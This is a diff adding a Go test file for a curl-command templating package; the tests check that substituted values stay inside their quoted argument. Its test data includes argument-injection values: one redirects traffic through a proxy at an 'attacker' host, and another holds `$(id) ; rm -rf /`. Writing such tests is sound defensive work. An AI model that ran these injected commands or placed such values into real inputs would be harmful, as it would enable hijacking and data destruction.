@@ -0,0 +1,76 @@
+package curlcmd
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestExpandKeepsValueInsideArgument(t *testing.T) {
+	values := []string{
+		`x' -x http://attacker:8080 'y`,
+		`x" --proxy http://attacker:8080 "y`,
+		`a b -H 'X-Evil: 1' $(id) ; rm -rf /`,
+		"line1\nline2 ^\"",
+	}
+	for _, value := range values {
+		command := `curl -H "Authorization: Bearer {{token}}" http://example.com/users`
+		expanded, undefined, err := Expand(command, map[string]string{"token": value})
+		if err != nil {
+			t.Fatalf("Expand(%q): %v", value, err)
+		}
+		if len(undefined) != 0 {
+			t.Fatalf("Expand(%q) undefined = %v", value, undefined)
+		}
+		cmd, err := Parse(expanded)
+		if err != nil {
+			t.Fatalf("Parse(%q): %v", expanded, err)
+		}
+		if cmd.Proxy != "" {
+			t.Errorf("value %q set proxy %q", value, cmd.Proxy)
+		}
+		if got := cmd.Header.Get("Authorization"); got != "Bearer "+value {
+			t.Errorf("value %q: Authorization = %q", value, got)
+		}
+		if len(cmd.Header) != 1 {
+			t.Errorf("value %q: unexpected headers %v", value, cmd.Header)
+		}
+		if cmd.URL != "http://example.com/users" {
+			t.Errorf("value %q: URL = %q", value, cmd.URL)
+		}
+	}
+}
+
+func TestExpandUndefinedAndUnchanged(t *testing.T) {
+	command := `curl '{{base}}/a' -H 'X: {{ missing }}' -d '{{missing}}{{other}}'`
+	expanded, undefined, err := Expand(command, map[string]string{"base": "http://h"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{"missing", "other"}; !reflect.DeepEqual(undefined, want) {
+		t.Errorf("undefined = %v, want %v", undefined, want)
+	}
+	args, _ := Split(expanded)
+	want := []string{"curl", "http://h/a", "-H", "X: {{ missing }}", "-d", "{{missing}}{{other}}"}
+	if !reflect.DeepEqual(args, want) {
+		t.Errorf("args = %q, want %q", args, want)
+	}
+
+	plain := `curl -H "A: 'b'"   http://h`
+	if got, _, _ := Expand(plain, nil); got != plain {
+		t.Errorf("command without placeholders changed: %q", got)
+	}
+	if _, _, err := Expand(`curl '{{a}}`, nil); err == nil {
+		t.Error("unterminated quote should fail")
+	}
+}
+
+func TestValidVariableName(t *testing.T) {
+	for name, want := range map[string]bool{
+		"token": true, "base_url": true, "a.b-c": true, "_x": true,
+		"": false, "1a": false, "a b": false, "a}}{{b": false, "{{a}}": false,
+	} {
+		if got := ValidVariableName(name); got != want {
+			t.Errorf("ValidVariableName(%q) = %v, want %v", name, got, want)
+		}
+	}
+}